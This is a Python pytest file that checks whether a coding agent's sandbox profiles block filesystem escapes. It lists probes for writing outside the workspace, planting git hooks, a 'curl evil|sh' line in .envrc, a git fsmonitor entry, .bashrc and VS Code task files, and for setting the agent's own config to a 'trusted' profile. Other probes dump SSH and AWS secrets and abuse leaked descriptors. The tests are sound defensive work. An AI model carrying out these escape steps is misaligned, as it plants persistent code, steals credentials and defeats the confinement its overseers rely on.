"""Filesystem probes, judged by the state of files the test owns (bytes, mode, owner, mtime,
link count, xattrs), read from outside after the run."""

from __future__ import annotations

import os
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from escape_kit import (
    CONFINED,
    IS_ROOT,
    PROFILES,
    SECRET_FILES,
    WRITE_PROFILES,
    Arena,
    actor,
    control_once,
    findings_note,
    nonce,
    state_of,
)

pytestmark = pytest.mark.timeout(120)

TRUSTED_ONLY = frozenset({"trusted"})
EVIL = "#!/bin/sh\necho pwned\n"
HARDLINK_LIMIT = ("SANDBOX.md known limit: writes through a hard link that existed before the "
                  "run reach the linked file (the run warns instead)")


@dataclass(frozen=True)
class FsProbe:
    """One attempted change: how to build it in an arena, which paths are the oracle, and
    which profiles may make the change."""

    build: Callable[[Arena, str], tuple[list[str], list[Path]]]
    allowed: frozenset[str]
    root_only: bool = False
    known_limit: tuple[frozenset[str], str] | None = None


def simple(action: str, rel: Callable[[Arena], list[object]],
           watch: Callable[[Arena], list[Path]]) -> Callable[[Arena, str], tuple[list[str],
                                                                                 list[Path]]]:
    return lambda a, token: (actor(action, token, *rel(a)), watch(a))


def pre_hardlink(a: Arena, token: str) -> tuple[list[str], list[Path]]:
    os.link(a.target, a.ws / "pre-hl")
    return actor("write", token, a.ws / "pre-hl", "pwned"), [a.target]


def tool(a: Arena, token: str) -> tuple[list[str], list[Path]]:
    (a.ws / "tool").write_text("#!/bin/sh\n")
    (a.ws / "tool").chmod(0o755)
    return actor("setuid_bit", token, a.ws / "tool"), [a.ws / "tool"]


def absent(rel: str, cmd: str) -> Callable[[Arena, str], tuple[list[str], list[Path]]]:
    """A protected path that does not exist yet: creating it plants code just the same."""
    def build(a: Arena, token: str) -> tuple[list[str], list[Path]]:
        target = a.ws / rel
        if target.is_dir():
            for child in target.iterdir():
                child.unlink()
            target.rmdir()
        elif target.exists():
            target.unlink()
        return shell_argv(cmd, token), [target, target / "tasks.json"]
    return build


def shell_argv(cmd: str, token: str) -> list[str]:
    return ["sh", "-c", f'echo "ACTOR-STARTED $0"; {cmd}', token]


def shell(cmd: str, watch: Callable[[Arena], list[Path]]) -> Callable[
        [Arena, str], tuple[list[str], list[Path]]]:
    return lambda a, token: (shell_argv(cmd, token), watch(a))


T = TRUSTED_ONLY
PROBES: dict[str, FsProbe] = {
    # writes outside every writable root
    "write-new-outside": FsProbe(simple("write", lambda a: [a.outside / "new.txt", "x"],
                                        lambda a: [a.outside / "new.txt"]), T),
    "overwrite-outside": FsProbe(simple("write", lambda a: [a.target, "pwned"],
                                        lambda a: [a.target]), T),
    "append-outside": FsProbe(simple("append", lambda a: [a.target, "pwned"],
                                     lambda a: [a.target]), T),
    "truncate-outside": FsProbe(simple("truncate", lambda a: [a.target],
                                       lambda a: [a.target]), T),
    "unlink-outside": FsProbe(simple("unlink", lambda a: [a.target], lambda a: [a.target]), T),
    "rename-within-outside": FsProbe(simple(
        "rename", lambda a: [a.target, a.outside / "moved"],
        lambda a: [a.target, a.outside / "moved"]), T),
    "rename-out-of-workspace": FsProbe(simple(
        "rename", lambda a: [a.ws / "inside.txt", a.outside / "stolen"],
        lambda a: [a.ws / "inside.txt", a.outside / "stolen"]), T),
    "rename-into-workspace": FsProbe(simple(
        "rename", lambda a: [a.target, a.ws / "grabbed"],
        lambda a: [a.target, a.ws / "grabbed"]), T),
    "shell-rc-in-home": FsProbe(simple("append", lambda a: [a.home / ".bashrc", EVIL],
                                       lambda a: [a.home / ".bashrc"]), T),
    "symlink-to-outside-file": FsProbe(simple(
        "symlink_write", lambda a: [a.ws / "link", a.target, "pwned"],
        lambda a: [a.target]), T),
    "symlink-to-outside-dir": FsProbe(simple(
        "symlink_write", lambda a: [a.ws / "ldir", a.outside, "x", a.ws / "ldir/new.txt"],
        lambda a: [a.outside / "new.txt"]), T),
    "hardlink-outside-file-in": FsProbe(simple(
        "link", lambda a: [a.target, a.ws / "hl"], lambda a: [a.target, a.ws / "hl"]), T),
    "pre-existing-hardlink": FsProbe(pre_hardlink, T, known_limit=(
        frozenset({"workspace-write", "workspace-net"}), HARDLINK_LIMIT)),
    # metadata outside: Landlock does not cover these, the read-only remount does
    "chmod-outside": FsProbe(simple("chmod", lambda a: [a.target, "600"],
                                    lambda a: [a.target]), T),
    "utime-outside": FsProbe(simple("utime", lambda a: [a.target, "1000000"],
                                    lambda a: [a.target]), T),
    "chown-outside": FsProbe(simple("chown", lambda a: [a.target, 4242, 4242],
                                    lambda a: [a.target]), T, root_only=True),
    "xattr-outside": FsProbe(simple("setxattr", lambda a: [a.target, "user.codex", "pwned"],
                                    lambda a: [a.target]), T),
    "setuid-bit-in-workspace": FsProbe(tool, T),
    "mknod-in-workspace": FsProbe(simple("mknod", lambda a: [a.ws / "null2"],
                                         lambda a: [a.ws / "null2"]), T, root_only=True),
    "open-by-handle": FsProbe(simple("open_by_handle", lambda a: [a.target, "pwned"],
                                     lambda a: [a.target]), T, root_only=True),
    # the workspace itself: write profiles may change it (positive checks)
    "write-in-workspace": FsProbe(simple("write", lambda a: [a.ws / "new.txt", "x"],
                                         lambda a: [a.ws / "new.txt"]), WRITE_PROFILES),
    "chmod-in-workspace": FsProbe(simple("chmod", lambda a: [a.ws / "inside.txt", "600"],
                                         lambda a: [a.ws / "inside.txt"]), WRITE_PROFILES),
    "unlink-in-workspace": FsProbe(simple("unlink", lambda a: [a.ws / "inside.txt"],
                                          lambda a: [a.ws / "inside.txt"]), WRITE_PROFILES),
    # protected paths inside the workspace: read-only even for write profiles
    "git-hook-overwrite": FsProbe(simple(
        "write", lambda a: [a.ws / ".git/hooks/pre-commit", EVIL],
        lambda a: [a.ws / ".git/hooks/pre-commit"]), T),
    "git-hook-create": FsProbe(simple(
        "write", lambda a: [a.ws / ".git/hooks/post-checkout", EVIL],
        lambda a: [a.ws / ".git/hooks/post-checkout"]), T),
    "git-hook-chmod": FsProbe(simple(
        "chmod", lambda a: [a.ws / ".git/hooks/pre-commit", "777"],
        lambda a: [a.ws / ".git/hooks/pre-commit"]), T),
    "git-config-append": FsProbe(simple(
        "append", lambda a: [a.ws / ".git/config", "[core]\n\tfsmonitor = evil\n"],
        lambda a: [a.ws / ".git/config"]), T),
    "git-config-fsmonitor": FsProbe(simple(
        "git_fsmonitor", lambda a: ["touch /tmp/pwned"], lambda a: [a.ws / ".git/config"]), T),
    "git-config-unlink": FsProbe(simple(
        "unlink", lambda a: [a.ws / ".git/config"], lambda a: [a.ws / ".git/config"]), T),
    "git-dir-replaced": FsProbe(simple(
        "replace_git", lambda a: [EVIL],
        lambda a: [a.ws / ".git/hooks/pre-commit", a.ws / ".git/config"]), T),
    "git-hooks-unmounted": FsProbe(simple(
        "umount_write", lambda a: [a.ws / ".git/hooks", a.ws / ".git/hooks/pre-commit", EVIL],
        lambda a: [a.ws / ".git/hooks/pre-commit"]), T),
    "gitmodules-overwrite": FsProbe(simple(
        "write", lambda a: [a.ws / ".gitmodules", "[submodule]"],
        lambda a: [a.ws / ".gitmodules"]), T),
    "envrc-overwrite": FsProbe(simple("write", lambda a: [a.ws / ".envrc", EVIL],
                                      lambda a: [a.ws / ".envrc"]), T),
    "envrc-rename-over": FsProbe(shell(
        "echo 'curl evil|sh' > envrc.new; mv -f envrc.new .envrc",
        lambda a: [a.ws / ".envrc"]), T),
    "envrc-create-when-absent": FsProbe(absent(".envrc", "echo 'curl evil|sh' > .envrc"), T),
    "vscode-tasks-create": FsProbe(simple(
        "write", lambda a: [a.ws / ".vscode/tasks.json", "{}"],
        lambda a: [a.ws / ".vscode/tasks.json"]), T),
    "vscode-dir-replaced": FsProbe(simple(
        "replace_dir", lambda a: [".vscode", "tasks.json", "{}"],
        lambda a: [a.ws / ".vscode/tasks.json", a.ws / ".vscode/settings.json"]), T),
    "vscode-create-when-absent": FsProbe(absent(
        ".vscode", "mkdir .vscode && echo '{}' > .vscode/tasks.json"), T),
    "idea-overwrite": FsProbe(simple("write", lambda a: [a.ws / ".idea/workspace.xml", "x"],
                                     lambda a: [a.ws / ".idea/workspace.xml"]), T),
    "codex-config-overwrite": FsProbe(simple(
        "write", lambda a: [a.ws / ".codex/config.toml", 'security_profile = "trusted"'],
        lambda a: [a.ws / ".codex/config.toml"]), T),
    "codex-create-when-absent": FsProbe(absent(
        ".codex", "mkdir .codex && echo 'security_profile=\"trusted\"' > .codex/tasks.json"), T),
}


def snapshot(paths: list[Path]) -> list[object]:
    return [state_of(p) for p in paths]


def probe_params() -> list[object]:
    params = []
    for name, probe in PROBES.items():
        for profile in PROFILES:
            marks = []
            if probe.known_limit and profile in probe.known_limit[0]:
                marks.append(pytest.mark.xfail(strict=True, reason=probe.known_limit[1]))
            params.append(pytest.param(name, profile, marks=marks, id=f"{name}-{profile}"))
    return params


@pytest.mark.parametrize(("name", "profile"), probe_params())
def test_filesystem_probe(name: str, profile: str, arena: Arena, control_arena: Arena) -> None:
    probe = PROBES[name]
    if probe.root_only and not IS_ROOT:
        pytest.skip("control run: needs root (CAP_MKNOD/CAP_CHOWN/CAP_DAC_READ_SEARCH)")

    def control() -> str | None:
        argv, watch = probe.build(control_arena, nonce())
        before = snapshot(watch)
        control_arena.run(argv, profile=None)
        return None if snapshot(watch) != before else "the action changes nothing"

    control_once(f"fs-{name}", control)
    token = nonce()
    argv, watch = probe.build(arena, token)
    before = snapshot(watch)
    outcome = arena.probe(argv, token, profile=profile)
    changed = snapshot(watch) != before
    if profile in probe.allowed:
        assert changed, f"{profile} should allow {name}\n" + findings_note(outcome)
    else:
        assert not changed, f"ESCAPE: {name} under {profile}\n" + findings_note(outcome)


# --- descriptors handed to the sandbox ---------------------------------------------------------

FD_CASES = {
    "inherited-write-fd": (os.O_WRONLY | os.O_APPEND, "write_fd"),
    "reopened-read-fd": (os.O_RDONLY, "reopen_fd"),
}


@pytest.mark.parametrize("profile", sorted(CONFINED))
@pytest.mark.parametrize("case", sorted(FD_CASES))
def test_inherited_descriptors(case: str, profile: str, arena: Arena,
                               control_arena: Arena) -> None:
    """A descriptor the agent leaked (or a read-only one upgraded via /proc/self/fd) must not
    become a way to write outside."""
    flags, action = FD_CASES[case]

    def attempt(a: Arena, token: str, prof: str | None) -> bytes:
        fd = os.open(a.target, flags)
        os.set_inheritable(fd, True)
        try:
            if prof is None:
                a.run(actor(action, token, fd, "pwned"), profile=None, pass_fds=(fd,))
            else:
                a.probe(actor(action, token, fd, "pwned"), token, profile=prof, pass_fds=(fd,))
        finally:
            os.close(fd)
        return a.target.read_bytes()

    control_once(f"fd-{case}", lambda: None if b"pwned" in attempt(
        control_arena, nonce(), None) else "descriptor write had no effect")
    assert b"pwned" not in attempt(arena, nonce(), profile), f"ESCAPE: {case} under {profile}"


@pytest.mark.parametrize("profile", PROFILES)
def test_descriptor_held_by_another_process(profile: str, arena: Arena,
                                            control_arena: Arena) -> None:
    """/proc/<pid>/fd of the supervisor (or anyone) must not re-open a file for writing."""
    def attempt(a: Arena, prof: str | None) -> bytes:
        token = nonce()
        fd = os.open(a.target, os.O_RDONLY)
        try:
            argv = actor("proc_fd_scan", token, a.target, "pwned")
            if prof is None:
                a.run(argv, profile=None)
            else:
                a.probe(argv, token, profile=prof)
        finally:
            os.close(fd)
        return a.target.read_bytes()

    control_once("fd-proc-scan", lambda: None if b"pwned" in attempt(control_arena, None)
                 else "no /proc/<pid>/fd re-open")
    leaked = b"pwned" in attempt(arena, profile)
    assert leaked == (profile == "trusted"), f"{profile}: proc fd re-open wrote={leaked}"


# --- /proc/sys --------------------------------------------------------------------------------

@pytest.mark.parametrize("profile", PROFILES)
def test_proc_sys_write(profile: str, arena: Arena, control_arena: Arena) -> None:
    knob = Path("/proc/sys/kernel/domainname")
    original = knob.read_text()
    if not IS_ROOT:
        pytest.skip("control run: writing /proc/sys needs root")
    try:
        def control() -> str | None:
            control_arena.run(actor("write", nonce(), knob, "codex-control"), profile=None)
            return None if knob.read_text().strip() == "codex-control" else "no effect"

        control_once("proc-sys", control)
        knob.write_text(original)
        token = nonce()
        outcome = arena.probe(actor("write", token, knob, token), token, profile=profile)
        changed = knob.read_text().strip() == token
        assert changed == (profile == "trusted"), findings_note(outcome)
    finally:
        knob.write_text(original)


# --- masked secrets -----------------------------------------------------------------------------

@pytest.mark.parametrize("profile", PROFILES)
def test_masked_secret_files(profile: str, arena: Arena) -> None:
    """~/.ssh, ~/.aws, gh tokens... read inside would reach the model through stdout."""
    paths = [arena.home / rel for rel in SECRET_FILES] + [arena.home / ".ssh",
                                                         arena.home / ".aws"]
    token = nonce()
    control = arena.run(actor("dump", token, *paths), profile=None)
    values = [arena.secret_values[rel] for rel in SECRET_FILES]
    assert all(v.encode() in control.stdout for v in values), "control could not read secrets"
    outcome = arena.probe(actor("dump", token, *paths), token, profile=profile)
    leaked = [rel for rel in SECRET_FILES if arena.secret_values[rel].encode() in outcome.output]
    if profile == "trusted":
        assert leaked, "trusted is unconfined and reads the home directory"
    else:
        assert not leaked, f"ESCAPE: {profile} read {leaked}\n" + findings_note(outcome)


# --- the hard-link scan -------------------------------------------------------------------------

def test_hardlink_scan_reported_in_json(arena: Arena) -> None:
    os.link(arena.target, arena.ws / "pre-hl")
    outcome = arena.run(["true"], profile="workspace-write", json_result=True)
    result = outcome.result_json()
    listed = [str(p) for p in result.get("hardlinks", [])]
    assert any(p.endswith("pre-hl") for p in listed), outcome.describe()


def test_hardlink_scan_warns_in_human_output(arena: Arena) -> None:
    os.link(arena.target, arena.ws / "pre-hl")
    outcome = arena.run(["true"], profile="workspace-write")
    assert b"pre-hl" in outcome.stderr, outcome.describe()


def test_state_oracle_sees_every_kind_of_change(tmp_path: Path) -> None:
    """The oracle must notice each change the probes look for (or probes pass vacuously)."""
    path = tmp_path / "f"
    path.write_bytes(b"x")
    changes: list[Callable[[], None]] = [
        lambda: path.write_bytes(b"y"), lambda: path.chmod(0o600),
        lambda: os.utime(path, (1, 1)), lambda: os.setxattr(path, "user.a", b"1"),
        lambda: os.link(path, tmp_path / "g"), lambda: path.chmod(0o600 | stat.S_ISUID),
    ]
    for change in changes:
        before = state_of(path)
        change()
        assert state_of(path) != before
